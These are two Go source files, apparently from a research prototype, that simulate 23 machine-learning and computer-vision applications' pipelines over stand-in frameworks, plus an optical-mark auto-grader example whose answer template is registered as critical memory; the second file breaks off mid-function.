