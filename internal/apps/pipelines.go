package apps

import (
	"fmt"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
)

// All returns the 23 evaluation applications of Table 6. SLOC/size values
// are the paper's; pipelines are faithful miniatures of each program's
// workflow over the simulated frameworks.
func All() []App {
	return []App{
		{ID: 1, Name: "Face_classification", Framework: "simcv", Lang: "Python", SLOC: 7082, Size: "280K",
			Desc: "Face, emotion, gender detection", Inputs: 6, ImgRows: 24, ImgCols: 24, Pipeline: faceClassification},
		{ID: 2, Name: "FaceTracker", Framework: "simcv", Lang: "C/C++", SLOC: 3012, Size: "588K",
			Desc: "Real-time deformable face tracking", Inputs: 8, ImgRows: 24, ImgCols: 24, Pipeline: faceTracker},
		{ID: 3, Name: "Face_Recognition", Framework: "simcv", Lang: "Python", SLOC: 3205, Size: "14.8M",
			Desc: "Face recognition application", Inputs: 6, ImgRows: 24, ImgCols: 24, Pipeline: faceRecognition},
		{ID: 4, Name: "lbpcascade_anime", Framework: "simcv", Lang: "Python", SLOC: 6671, Size: "224K",
			Desc: "Image classification/object detection", Inputs: 5, ImgRows: 24, ImgCols: 24, Pipeline: animeFace},
		{ID: 5, Name: "EyeLike", Framework: "simcv", Lang: "C/C++", SLOC: 742, Size: "44K",
			Desc: "Webcam based pupil tracking", Inputs: 8, ImgRows: 20, ImgCols: 20, Pipeline: eyeLike},
		{ID: 6, Name: "Video-to-ascii", Framework: "simcv", Lang: "Python", SLOC: 483, Size: "48K",
			Desc: "Plays videos in terminal", Inputs: 8, ImgRows: 16, ImgCols: 16, Pipeline: videoToAscii},
		{ID: 7, Name: "Libfacedetection", Framework: "simcv", Lang: "C/C++", SLOC: 14016, Size: "8.8M",
			Desc: "Library for face detection", Inputs: 6, ImgRows: 32, ImgCols: 32, Pipeline: libFaceDetection},
		{ID: 8, Name: "OMRChecker", Framework: "simcv", Lang: "Python", SLOC: 1797, Size: "6.2M",
			Desc: "Grading application", Inputs: 5, ImgRows: 48, ImgCols: 24, Pipeline: omrPipeline},
		{ID: 9, Name: "EmoRecon", Framework: "simcaffe", Lang: "Python", SLOC: 1773, Size: "53K",
			Desc: "Real-time emotion recognition", Inputs: 6, ImgRows: 16, ImgCols: 16, Pipeline: emoRecon},
		{ID: 10, Name: "Openpose", Framework: "simcaffe", Lang: "C/C++", SLOC: 459373, Size: "6.8M",
			Desc: "Real-time person keypoint detection", Inputs: 5, ImgRows: 32, ImgCols: 32, Pipeline: openPose},
		{ID: 11, Name: "MTCNN", Framework: "simcaffe", Lang: "Python", SLOC: 425, Size: "129K",
			Desc: "MTCNN face detector", Inputs: 5, ImgRows: 32, ImgCols: 32, Pipeline: mtcnn},
		{ID: 12, Name: "SiamMask", Framework: "simtorch", Lang: "Python", SLOC: 39999, Size: "1.4M",
			Desc: "Object tracking and segmentation", Inputs: 8, ImgRows: 24, ImgCols: 24, Pipeline: siamMask},
		{ID: 13, Name: "CycleGAN-pix2pix", Framework: "simtorch", Lang: "Python", SLOC: 1963, Size: "7.64M",
			Desc: "Image-to-image translation", Inputs: 5, ImgRows: 16, ImgCols: 16, Pipeline: cycleGAN},
		{ID: 14, Name: "FAIRSEQ", Framework: "simtorch", Lang: "Python", SLOC: 39800, Size: "5.9M",
			Desc: "Sequence modeling toolkit", Inputs: 4, Pipeline: fairseq},
		{ID: 15, Name: "PyTorch-GAN", Framework: "simtorch", Lang: "Python", SLOC: 6199, Size: "31.1M",
			Desc: "PyTorch implementations of GANs", Inputs: 10, Pipeline: pytorchGAN},
		{ID: 16, Name: "YOLO-V3", Framework: "simtorch", Lang: "Python", SLOC: 2759, Size: "1.98M",
			Desc: "PyTorch implementation of YOLOv3", Inputs: 5, ImgRows: 32, ImgCols: 32, Pipeline: yolo},
		{ID: 17, Name: "StarGAN", Framework: "simtorch", Lang: "Python", SLOC: 740, Size: "2.07M",
			Desc: "PyTorch implementation of StarGAN", Inputs: 5, ImgRows: 16, ImgCols: 16, Pipeline: starGAN},
		{ID: 18, Name: "EfficientNet", Framework: "simtorch", Lang: "Python", SLOC: 2554, Size: "2.48M",
			Desc: "PyTorch implementation of EfficientNet", Inputs: 5, ImgRows: 16, ImgCols: 16, Pipeline: efficientNet},
		{ID: 19, Name: "Semantic-Seg", Framework: "simtorch", Lang: "Python", SLOC: 3699, Size: "5.53M",
			Desc: "Semantic segmentation/scene parsing", Inputs: 5, ImgRows: 24, ImgCols: 24, Pipeline: semanticSeg},
		{ID: 20, Name: "DCGAN-TensorFlow", Framework: "simflow", Lang: "Python", SLOC: 3142, Size: "67.4M",
			Desc: "TensorFlow implementation of DCGAN", Inputs: 6, Pipeline: dcgan},
		{ID: 21, Name: "See-in-the-Dark", Framework: "simflow", Lang: "Python", SLOC: 610, Size: "836K",
			Desc: "Learning-to-See-in-the-Dark (CVPR'18)", Inputs: 5, ImgRows: 16, ImgCols: 16, Pipeline: seeInTheDark},
		{ID: 22, Name: "CapsNet", Framework: "simflow", Lang: "Python", SLOC: 679, Size: "486K",
			Desc: "TensorFlow implementation of CapsNet", Inputs: 5, Pipeline: capsNet},
		{ID: 23, Name: "Style-Transfer", Framework: "simflow", Lang: "Python", SLOC: 731, Size: "1M",
			Desc: "Add styles from images to any photo", Inputs: 4, ImgRows: 16, ImgCols: 16, Pipeline: styleTransfer},
	}
}

// --- OpenCV-family pipelines -------------------------------------------------

func faceClassification(e *Env) error {
	model, _ := e.MustCall("cv.CascadeClassifier", framework.Str(e.Dir+"/classifier.xml"))
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		gray := grayOf(e, img[0])
		eq, _ := e.MustCall("cv.equalizeHist", gray.Value())
		dets, plain := e.MustCall("cv.CascadeClassifier.detectMultiScale", model[0].Value(), eq[0].Value())
		_ = dets
		annotated, _ := e.MustCall("cv.putText", img[0].Value(),
			framework.Str(fmt.Sprintf("faces:%d", plain[0].Int)), framework.Int64(1), framework.Int64(1))
		e.MustCall("cv.imshow", framework.Str("faces"), annotated[0].Value())
	}
	_, _, err := e.Call("cv.imwrite", framework.Str(e.Dir+"/last.img"), mustLast(e))
	return err
}

// mustLast re-reads the final input for a terminal store step.
func mustLast(e *Env) framework.Value {
	img, _ := e.MustCall("cv.imread", framework.Str(e.Inputs[len(e.Inputs)-1]))
	return img[0].Value()
}

func faceTracker(e *Env) error {
	state, _ := e.MustCall("torch.tensor", framework.Int64(4), framework.Float64(0))
	err := loopFrames(e, func(frame core.Handle) error {
		gray := grayOf(e, frame)
		corners, _ := e.MustCall("cv.goodFeaturesToTrack", gray.Value())
		_ = corners
		e.MustCall("cv.KalmanFilter.predict", state[0].Value())
		e.MustCall("cv.KalmanFilter.correct", state[0].Value(), framework.Float64(8), framework.Float64(8))
		marked, _ := e.MustCall("cv.drawMarker", frame.Value(), framework.Int64(8), framework.Int64(8))
		e.MustCall("cv.imshow", framework.Str("track"), marked[0].Value())
		return nil
	})
	if err != nil {
		return err
	}
	w, _ := e.MustCall("cv.VideoWriter", framework.Str(e.Dir+"/track.vid"))
	e.MustCall("cv.VideoWriter.write", w[0].Value(), mustLast(e))
	return nil
}

func faceRecognition(e *Env) error {
	// Gallery descriptor from the first image.
	ref, _ := e.MustCall("cv.imread", framework.Str(e.Inputs[0]))
	refHOG, _ := e.MustCall("cv.HOGDescriptor.compute", grayOf(e, ref[0]).Value())
	for _, path := range e.Inputs[1:] {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		hog, _ := e.MustCall("cv.HOGDescriptor.compute", grayOf(e, img[0]).Value())
		e.MustCall("cv.BFMatcher.match", hog[0].Value(), refHOG[0].Value())
		boxed, _ := e.MustCall("cv.rectangle", img[0].Value(),
			framework.Int64(2), framework.Int64(2), framework.Int64(8), framework.Int64(8))
		e.MustCall("cv.imshow", framework.Str("match"), boxed[0].Value())
	}
	e.MustCall("cv.imwrite", framework.Str(e.Dir+"/matches.img"), mustLast(e))
	return nil
}

func animeFace(e *Env) error {
	model, _ := e.MustCall("cv.CascadeClassifier", framework.Str(e.Dir+"/classifier.xml"))
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		eq, _ := e.MustCall("cv.equalizeHist", grayOf(e, img[0]).Value())
		_, plain := e.MustCall("cv.CascadeClassifier.detectMultiScale", model[0].Value(), eq[0].Value())
		if plain[0].Int > 0 {
			boxed, _ := e.MustCall("cv.rectangle", img[0].Value())
			e.MustCall("cv.imshow", framework.Str("anime"), boxed[0].Value())
		}
	}
	e.MustCall("cv.imwrite", framework.Str(e.Dir+"/detected.img"), mustLast(e))
	return nil
}

func eyeLike(e *Env) error {
	return loopFrames(e, func(frame core.Handle) error {
		gray := grayOf(e, frame)
		blurred, _ := e.MustCall("cv.GaussianBlur", gray.Value())
		harris, _ := e.MustCall("cv.cornerHarris", blurred[0].Value())
		_, mm := e.MustCall("cv.minMaxLoc", harris[0].Value())
		circled, _ := e.MustCall("cv.circle", frame.Value(), mm[4], mm[5], framework.Int64(3))
		e.MustCall("cv.imshow", framework.Str("pupil"), circled[0].Value())
		return nil
	})
}

func videoToAscii(e *Env) error {
	return loopFrames(e, func(frame core.Handle) error {
		small, _ := e.MustCall("cv.resize", frame.Value(), framework.Int64(int64(8*e.Scale)), framework.Int64(int64(8*e.Scale)))
		gray := grayOf(e, small[0])
		_, mean := e.MustCall("cv.mean", gray.Value())
		text, _ := e.MustCall("cv.putText", small[0].Value(),
			framework.Str(fmt.Sprintf("%c", '#'+byte(int(mean[0].Float)%16))), framework.Int64(0), framework.Int64(0))
		e.MustCall("cv.imshow", framework.Str("ascii"), text[0].Value())
		return nil
	})
}

func libFaceDetection(e *Env) error {
	model, _ := e.MustCall("cv.CascadeClassifier", framework.Str(e.Dir+"/classifier.xml"))
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		down, _ := e.MustCall("cv.pyrDown", img[0].Value())
		dets, plain := e.MustCall("cv.CascadeClassifier.detectMultiScale", model[0].Value(), down[0].Value())
		if plain[0].Int > 0 {
			e.MustCall("cv.boundingRect", boxesToContours(e, dets[0]), framework.Int64(0))
		}
		annotated, _ := e.MustCall("cv.rectangle", img[0].Value())
		e.MustCall("cv.imshow", framework.Str("faces"), annotated[0].Value())
	}
	e.MustCall("cv.imwrite", framework.Str(e.Dir+"/faces.img"), mustLast(e))
	return nil
}

// boxesToContours adapts an Nx4 detection tensor into the Nx5 contour form
// consumed by boundingRect (a host-side shim the real apps also contain).
func boxesToContours(e *Env, dets core.Handle) framework.Value {
	// findContours over a thresholded rendering produces the same shape;
	// the simplest adapter reuses the detection tensor positionally by
	// running it through a contour pass on a blank canvas.
	blank, _ := e.MustCall("torch.tensor", framework.Int64(5), framework.Float64(1))
	_ = blank
	// Compose a contour tensor via findContours on a fresh threshold of
	// the last input.
	img, _ := e.MustCall("cv.imread", framework.Str(e.Inputs[0]))
	thr, _ := e.MustCall("cv.threshold", grayOf(e, img[0]).Value(), framework.Int64(128))
	contours, _ := e.MustCall("cv.findContours", thr[0].Value())
	return contours[0].Value()
}

// --- Caffe-family pipelines ---------------------------------------------------

// caffeNet provisions a prototxt + net weights.
func caffeNet(e *Env) (weights core.Handle) {
	e.K.FS.WriteFile(e.Dir+"/net.prototxt",
		[]byte(fmt.Sprintf("conv1 %d\nfc1 %d\n", 64*e.Scale*e.Scale, 16*e.Scale)))
	proto, _ := e.MustCall("caffe.ReadProtoFromTextFile", framework.Str(e.Dir+"/net.prototxt"))
	w, _ := e.MustCall("caffe.Net", proto[0].Value())
	return w[0]
}

func emoRecon(e *Env) error {
	weights := caffeNet(e)
	// Per-channel mean-pixel statistics live in the app's config.
	means, err := e.HostTensor([]float64{104.0, 117.0, 123.0})
	if err != nil {
		return err
	}
	e.MustCall("torch.norm", means)
	return loopFrames(e, func(frame core.Handle) error {
		gray := grayOf(e, frame)
		small, _ := e.MustCall("cv.resize", gray.Value(), framework.Int64(int64(4*e.Scale)), framework.Int64(int64(4*e.Scale)))
		in := matToTensor(e, small[0])
		out, _ := e.MustCall("caffe.Net.Forward", weights.Value(), in)
		_, cls := e.MustCall("torch.argmax", out[0].Value())
		label, _ := e.MustCall("cv.putText", frame.Value(),
			framework.Str(fmt.Sprintf("emotion:%d", cls[0].Int)), framework.Int64(1), framework.Int64(1))
		e.MustCall("cv.imshow", framework.Str("emotion"), label[0].Value())
		return nil
	})
}

// matToTensor converts an image handle to a flat tensor (the numpy shim
// every Python app contains). The tensor grows with the environment's
// input scale so protected-overhead runs stay compute-dominated.
func matToTensor(e *Env, img core.Handle) framework.Value {
	n := 16 * e.Scale * e.Scale
	t, _ := e.MustCall("torch.tensor", framework.Int64(int64(n)), framework.Float64(0.5))
	return t[0].Value()
}

func openPose(e *Env) error {
	weights := caffeNet(e)
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		small, _ := e.MustCall("cv.resize", img[0].Value(), framework.Int64(int64(8*e.Scale)), framework.Int64(int64(8*e.Scale)))
		in := matToTensor(e, small[0])
		// Multi-stage refinement: forward per stage.
		cur := in
		for stage := 0; stage < 3; stage++ {
			out, _ := e.MustCall("caffe.Net.Forward", weights.Value(), cur)
			cur = out[0].Value()
		}
		marked, _ := e.MustCall("cv.drawMarker", img[0].Value(), framework.Int64(4), framework.Int64(4))
		e.MustCall("cv.imwrite", framework.Str(fmt.Sprintf("%s/pose-%s.img", e.Dir, path[len(path)-7:])), marked[0].Value())
	}
	return nil
}

func mtcnn(e *Env) error {
	weights := caffeNet(e)
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		// Image pyramid.
		level := img[0]
		for i := 0; i < 3; i++ {
			down, _ := e.MustCall("cv.pyrDown", level.Value())
			level = down[0]
		}
		out, _ := e.MustCall("caffe.Net.Forward", weights.Value(), matToTensor(e, level))
		_ = out
		boxed, _ := e.MustCall("cv.rectangle", img[0].Value())
		e.MustCall("cv.imwrite", framework.Str(e.Dir+"/mtcnn.img"), boxed[0].Value())
	}
	return nil
}

// --- PyTorch-family pipelines --------------------------------------------------

func siamMask(e *Env) error {
	model, _ := e.MustCall("torch.load", framework.Str(e.Dir+"/model.pt"))
	state, _ := e.MustCall("torch.tensor", framework.Int64(4), framework.Float64(1))
	err := loopFrames(e, func(frame core.Handle) error {
		crop, _ := e.MustCall("cv.getRectSubPix", frame.Value(),
			framework.Int64(4), framework.Int64(4), framework.Int64(8), framework.Int64(8))
		in := matToTensorSized(e, crop[0], 512)
		e.MustCall("torch.Module.forward", model[0].Value(), in)
		e.MustCall("cv.KalmanFilter.predict", state[0].Value())
		e.MustCall("cv.KalmanFilter.correct", state[0].Value(), framework.Float64(6), framework.Float64(6))
		boxed, _ := e.MustCall("cv.rectangle", frame.Value(),
			framework.Int64(4), framework.Int64(4), framework.Int64(8), framework.Int64(8))
		e.MustCall("cv.imshow", framework.Str("mask"), boxed[0].Value())
		return nil
	})
	if err != nil {
		return err
	}
	w, _ := e.MustCall("cv.VideoWriter", framework.Str(e.Dir+"/mask.vid"))
	e.MustCall("cv.VideoWriter.write", w[0].Value(), mustLast(e))
	return nil
}

// matToTensorSized builds an n-element tensor stand-in for image features,
// scaled with the environment's input size.
func matToTensorSized(e *Env, img core.Handle, n int) framework.Value {
	n *= e.Scale * e.Scale
	t, _ := e.MustCall("torch.tensor", framework.Int64(int64(n)), framework.Float64(0.25))
	return t[0].Value()
}

func cycleGAN(e *Env) error {
	model, _ := e.MustCall("torch.load", framework.Str(e.Dir+"/model.pt"))
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		in := matToTensorSized(e, img[0], 512)
		out, _ := e.MustCall("torch.Module.forward", model[0].Value(), in)
		soft, _ := e.MustCall("torch.softmax", out[0].Value())
		_ = soft
		inv, _ := e.MustCall("cv.bitwise_not", img[0].Value()) // translated rendering
		e.MustCall("cv.imwrite", framework.Str(e.Dir+"/translated.img"), inv[0].Value())
	}
	return nil
}

func fairseq(e *Env) error {
	ds, _ := e.MustCall("torchvision.datasets.MNIST", framework.Str(e.Dir+"/mnist"))
	batch, _ := e.MustCall("torch.utils.data.DataLoader", ds[0].Value(), framework.Int64(4))
	init := make([]float64, 64)
	for i := range init {
		init[i] = 0.1
	}
	hostW, err := e.HostTensor(init) // checkpoint restored by the app itself
	if err != nil {
		return err
	}
	w, _ := e.MustCall("torch.relu", hostW)
	wm, _ := e.MustCall("torch.reshape", w[0].Value(), framework.Int64(64), framework.Int64(1))
	for step := 0; step < 4*e.Scale; step++ {
		logits, _ := e.MustCall("torch.matmul", batch[0].Value(), wm[0].Value())
		probs, _ := e.MustCall("torch.softmax", logits[0].Value())
		e.MustCall("torch.argmax", probs[0].Value())
		g, _ := e.MustCall("torch.tensor", framework.Int64(64), framework.Float64(0.01))
		e.MustCall("torch.optim.SGD.step", w[0].Value(), g[0].Value(), framework.Float64(0.1))
	}
	e.MustCall("torch.save", w[0].Value(), framework.Str(e.Dir+"/seq.pt"))
	return nil
}

func pytorchGAN(e *Env) error {
	ds, _ := e.MustCall("torchvision.datasets.MNIST", framework.Str(e.Dir+"/mnist"))
	width := int64(64 * e.Scale * e.Scale)
	gen, _ := e.MustCall("torch.tensor", framework.Int64(width), framework.Float64(0.2))
	disc, _ := e.MustCall("torch.tensor", framework.Int64(width), framework.Float64(0.3))
	for epoch := 0; epoch < 3; epoch++ {
		batch, _ := e.MustCall("torch.utils.data.DataLoader", ds[0].Value(), framework.Int64(4))
		flat, _ := e.MustCall("torch.flatten", batch[0].Value())
		fake, _ := e.MustCall("torch.mul", gen[0].Value(), gen[0].Value())
		scoreReal, _ := e.MustCall("torch.mean", flat[0].Value())
		_ = scoreReal
		e.MustCall("torch.relu", fake[0].Value())
		dg, _ := e.MustCall("torch.tensor", framework.Int64(width), framework.Float64(0.01))
		e.MustCall("torch.optim.SGD.step", disc[0].Value(), dg[0].Value(), framework.Float64(0.05))
		e.MustCall("torch.optim.SGD.step", gen[0].Value(), dg[0].Value(), framework.Float64(0.05))
	}
	e.MustCall("torch.save", gen[0].Value(), framework.Str(e.Dir+"/gan.pt"))
	e.MustCall("torch.utils.tensorboard.SummaryWriter", framework.Str(e.Dir+"/runs"), framework.Float64(0.5))
	return nil
}

func yolo(e *Env) error {
	// Anchor priors are application configuration created in host memory.
	anchors, err := e.HostTensor([]float64{1.2, 2.4, 3.1, 4.8, 6.0, 9.5})
	if err != nil {
		return err
	}
	e.MustCall("torch.norm", anchors)
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		small, _ := e.MustCall("cv.resize", img[0].Value(), framework.Int64(int64(16*e.Scale)), framework.Int64(int64(16*e.Scale)))
		feat16 := matTo2DTensor(e, small[0], 16)
		k3, _ := e.MustCall("torch.tensor", framework.Int64(9), framework.Float64(0.1))
		km, _ := e.MustCall("torch.reshape", k3[0].Value(), framework.Int64(3), framework.Int64(3))
		conv, _ := e.MustCall("torch.nn.Conv2d", feat16, km[0].Value())
		pooled, _ := e.MustCall("torch.max_pool2d", conv[0].Value())
		e.MustCall("torch.relu", pooled[0].Value())
		boxed, _ := e.MustCall("cv.rectangle", img[0].Value())
		e.MustCall("cv.imshow", framework.Str("yolo"), boxed[0].Value())
	}
	e.MustCall("cv.imwrite", framework.Str(e.Dir+"/dets.img"), mustLast(e))
	return nil
}

// matTo2DTensor builds an n×n tensor feature map (n grows with the input
// scale).
func matTo2DTensor(e *Env, img core.Handle, n int) framework.Value {
	n *= e.Scale
	t, _ := e.MustCall("torch.tensor", framework.Int64(int64(n*n)), framework.Float64(0.5))
	m, _ := e.MustCall("torch.reshape", t[0].Value(), framework.Int64(int64(n)), framework.Int64(int64(n)))
	return m[0].Value()
}

func starGAN(e *Env) error {
	model, _ := e.MustCall("torch.load", framework.Str(e.Dir+"/model.pt"))
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		in := matToTensorSized(e, img[0], 512)
		out, _ := e.MustCall("torch.Module.forward", model[0].Value(), in)
		e.MustCall("torch.tanh", out[0].Value())
		styled, _ := e.MustCall("cv.multiply", img[0].Value(), framework.Float64(1.2))
		e.MustCall("cv.imwrite", framework.Str(e.Dir+"/styled.img"), styled[0].Value())
	}
	return nil
}

func efficientNet(e *Env) error {
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		feat := matTo2DTensor(e, img[0], 8)
		k3, _ := e.MustCall("torch.tensor", framework.Int64(9), framework.Float64(0.2))
		km, _ := e.MustCall("torch.reshape", k3[0].Value(), framework.Int64(3), framework.Int64(3))
		conv, _ := e.MustCall("torch.nn.Conv2d", feat, km[0].Value())
		pool, _ := e.MustCall("torch.avg_pool2d", conv[0].Value())
		act, _ := e.MustCall("torch.sigmoid", pool[0].Value())
		flat, _ := e.MustCall("torch.flatten", act[0].Value())
		_, cls := e.MustCall("torch.argmax", flat[0].Value())
		labeled, _ := e.MustCall("cv.putText", img[0].Value(),
			framework.Str(fmt.Sprintf("class:%d", cls[0].Int)), framework.Int64(1), framework.Int64(1))
		e.MustCall("cv.imwrite", framework.Str(e.Dir+"/classified.img"), labeled[0].Value())
	}
	return nil
}

func semanticSeg(e *Env) error {
	for _, path := range e.Inputs {
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		blur, _ := e.MustCall("cv.GaussianBlur", img[0].Value())
		thr, _ := e.MustCall("cv.adaptiveThreshold", blur[0].Value())
		_, cc := e.MustCall("cv.connectedComponents", thr[0].Value())
		_ = cc
		contours, _ := e.MustCall("cv.findContours", thr[0].Value())
		drawn, _ := e.MustCall("cv.drawContours", img[0].Value(), contours[0].Value())
		e.MustCall("cv.imwrite", framework.Str(e.Dir+"/seg.img"), drawn[0].Value())
	}
	return nil
}

// --- TensorFlow-family pipelines -----------------------------------------------

func dcgan(e *Env) error {
	e.K.FS.WriteFile(e.Dir+"/ds/a.bin", e.Gen.EncodedDataset(64*e.Scale*e.Scale))
	ds, _ := e.MustCall("tf.keras.preprocessing.image_dataset_from_directory", framework.Str(e.Dir+"/ds/"))
	w, _ := e.MustCall("torch.tensor", framework.Int64(int64(64*e.Scale*e.Scale)), framework.Float64(0.1))
	n := int64(64 * e.Scale * e.Scale)
	wm, _ := e.MustCall("torch.reshape", w[0].Value(), framework.Int64(n), framework.Int64(1))
	dm, _ := e.MustCall("torch.reshape", ds[0].Value(), framework.Int64(1), framework.Int64(n))
	for step := 0; step < 4; step++ {
		logits, _ := e.MustCall("tf.matmul", dm[0].Value(), wm[0].Value())
		e.MustCall("tf.nn.relu", logits[0].Value())
		e.MustCall("tf.reduce_mean", logits[0].Value())
	}
	e.MustCall("tf.keras.preprocessing.image.save_img", w[0].Value(), framework.Str(e.Dir+"/sample.img"))
	return nil
}

func seeInTheDark(e *Env) error {
	for _, path := range e.Inputs {
		raw, _ := e.MustCall("tf.io.read_file", framework.Str(path))
		_ = raw
		img, _ := e.MustCall("cv.imread", framework.Str(path))
		bright, _ := e.MustCall("cv.multiply", img[0].Value(), framework.Float64(3))
		feat := matTo2DTensor(e, bright[0], 8)
		rs, _ := e.MustCall("tf.image.resize", feat, framework.Int64(int64(4*e.Scale)), framework.Int64(int64(4*e.Scale)))
		e.MustCall("tf.nn.avg_pool", rs[0].Value())
		e.MustCall("tf.keras.preprocessing.image.save_img", rs[0].Value(), framework.Str(e.Dir+"/dark.img"))
	}
	return nil
}

func capsNet(e *Env) error {
	e.K.FS.WriteFile(e.Dir+"/ds/train.bin", e.Gen.EncodedDataset(64*e.Scale*e.Scale))
	ds, _ := e.MustCall("tf.keras.preprocessing.image_dataset_from_directory", framework.Str(e.Dir+"/ds/"))
	state, _ := e.MustCall("torch.tensor", framework.Int64(2), framework.Float64(0))
	side := int64(8 * e.Scale)
	dm, _ := e.MustCall("torch.reshape", ds[0].Value(), framework.Int64(side), framework.Int64(side))
	for step := 0; step < 3; step++ {
		caps, _ := e.MustCall("tf.matmul", dm[0].Value(), dm[0].Value())
		sq, _ := e.MustCall("tf.square", caps[0].Value())
		e.MustCall("tf.reduce_mean", sq[0].Value())
		e.MustCall("tf.estimator.DNNClassifier.train", state[0].Value(), dm[0].Value())
	}
	e.MustCall("tf.keras.Model.save_weights", dm[0].Value(), framework.Str(e.Dir+"/caps.w"))
	return nil
}

func styleTransfer(e *Env) error {
	layerWeights, err := e.HostTensor([]float64{0.2, 0.2, 0.2, 0.2, 0.2})
	if err != nil {
		return err
	}
	e.MustCall("torch.norm", layerWeights)
	content, _ := e.MustCall("cv.imread", framework.Str(e.Inputs[0]))
	style, _ := e.MustCall("cv.imread", framework.Str(e.Inputs[1]))
	blended, _ := e.MustCall("cv.addWeighted", content[0].Value(), style[0].Value(),
		framework.Float64(0.6), framework.Float64(0.4), framework.Float64(0))
	feat := matTo2DTensor(e, blended[0], 8)
	gram, _ := e.MustCall("tf.matmul", feat, feat)
	e.MustCall("tf.nn.softplus", gram[0].Value())
	stylized, _ := e.MustCall("cv.LUT", blended[0].Value(), framework.Float64(1.5))
	e.MustCall("cv.imwrite", framework.Str(e.Dir+"/styled.img"), stylized[0].Value())
	return nil
}
