package apps

import (
	"fmt"
	"strings"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/workload"
)

// OMR holds the motivating example's state (§3): the auto-grader with its
// two critical variables — template (answer-mark coordinates) and the
// master answer key — living in the host program's memory.
type OMR struct {
	Questions, Options, Cell int
	// Template is the critical host-memory region holding the bubble
	// coordinates (template.QBlocks.orig in the paper).
	Template mem.Region
	// Master is the teacher's answer key.
	Master []int
	// Results accumulates graded rows for the output .csv.
	Results []string
}

// OMRCheckerApp builds the full motivating-example application. The host
// space parameter is where the critical template lives (rt.Host.Space()
// under FreePart, the monolith's space under Direct).
func NewOMR(questions, options, cell int) *OMR {
	return &OMR{Questions: questions, Options: options, Cell: cell}
}

// InitTemplate allocates and fills the template in the given space: one
// (row, col) coordinate pair per question×option bubble, plus the master
// key. Registers the region as critical when rt is non-nil.
func (o *OMR) InitTemplate(space *mem.AddressSpace, rt *core.Runtime, master []int) error {
	size := o.Questions * o.Options * 2
	r, err := space.Alloc(size)
	if err != nil {
		return err
	}
	buf := make([]byte, size)
	for q := 0; q < o.Questions; q++ {
		for opt := 0; opt < o.Options; opt++ {
			i := (q*o.Options + opt) * 2
			buf[i] = byte(q*o.Cell + o.Cell/2)     // row center
			buf[i+1] = byte(opt*o.Cell + o.Cell/2) // col center
		}
	}
	if err := space.Store(r.Base, buf); err != nil {
		return err
	}
	o.Template = r
	o.Master = append([]int(nil), master...)
	if rt != nil {
		rt.RegisterCritical(r)
	}
	return nil
}

// ReadTemplate loads the bubble coordinate for (question, option).
func (o *OMR) ReadTemplate(space *mem.AddressSpace, q, opt int) (row, col int, err error) {
	i := (q*o.Options + opt) * 2
	b, err := space.Load(o.Template.Base+mem.Addr(i), 2)
	if err != nil {
		return 0, 0, err
	}
	return int(b[0]), int(b[1]), nil
}

// GradeSheet processes one submission image through the framework pipeline
// (imread → morphology → threshold → per-bubble sampling) and grades it
// against the master key, appending a CSV row.
func (o *OMR) GradeSheet(e *Env, space *mem.AddressSpace, path string) (score int, err error) {
	imgs, _, err := e.Call("cv.imread", framework.Str(path))
	if err != nil {
		return 0, err
	}
	// Pre-processing chain (the paper's morphologyEx/erode steps).
	morph, _ := e.MustCall("cv.morphologyEx", imgs[0].Value(), framework.Str("close"))
	thr, _ := e.MustCall("cv.threshold", morph[0].Value(), framework.Int64(100))
	// Sample every bubble center through the template coordinates.
	answers := make([]int, o.Questions)
	payload, err := e.Ex.Fetch(thr[0])
	if err != nil {
		return 0, err
	}
	cols := o.Options * o.Cell
	for q := 0; q < o.Questions; q++ {
		best, bestVal := -1, 0
		for opt := 0; opt < o.Options; opt++ {
			r, c, terr := o.ReadTemplate(space, q, opt)
			if terr != nil {
				return 0, terr
			}
			idx := r*cols + c
			if idx < 0 || idx >= len(payload) {
				continue
			}
			if int(payload[idx]) > bestVal {
				best, bestVal = opt, int(payload[idx])
			}
		}
		answers[q] = best
	}
	for q, a := range answers {
		if a == o.Master[q] {
			score++
		}
	}
	row := make([]string, 0, o.Questions+1)
	for _, a := range answers {
		row = append(row, fmt.Sprintf("%c", 'A'+a))
	}
	row = append(row, fmt.Sprintf("%d", score))
	o.Results = append(o.Results, strings.Join(row, ","))
	return score, nil
}

// Annotate draws the recognized marks back onto a sheet (the hot-loop
// cv.rectangle/cv.putText pair of Fig. 4) and shows/stores it.
func (o *OMR) Annotate(e *Env, img core.Handle, score int) error {
	canvas := img
	for q := 0; q < o.Questions; q++ {
		out, _ := e.MustCall("cv.rectangle", canvas.Value(),
			framework.Int64(0), framework.Int64(int64(q*o.Cell)),
			framework.Int64(int64(o.Cell)), framework.Int64(int64(o.Cell)))
		canvas = out[0]
		out, _ = e.MustCall("cv.putText", canvas.Value(), framework.Str(fmt.Sprintf("Q%d", q)),
			framework.Int64(2), framework.Int64(int64(q*o.Cell+1)))
		canvas = out[0]
	}
	if _, _, err := e.Call("cv.imshow", framework.Str("graded"), canvas.Value()); err != nil {
		return err
	}
	_, _, err := e.Call("cv.imwrite", framework.Str(e.Dir+"/annotated.img"), canvas.Value())
	return err
}

// WriteCSV stores the grading results (the program's final output).
func (o *OMR) WriteCSV(k *kernel.Kernel, path string) {
	k.FS.WriteFile(path, []byte(strings.Join(o.Results, "\n")+"\n"))
}

// omrPipeline is the Table 6 entry's pipeline: grade every input sheet,
// annotate the last one, store the CSV.
func omrPipeline(e *Env) error {
	hostSpace := hostSpaceOf(e)
	omr := NewOMR(8, 4, omrCell(e))
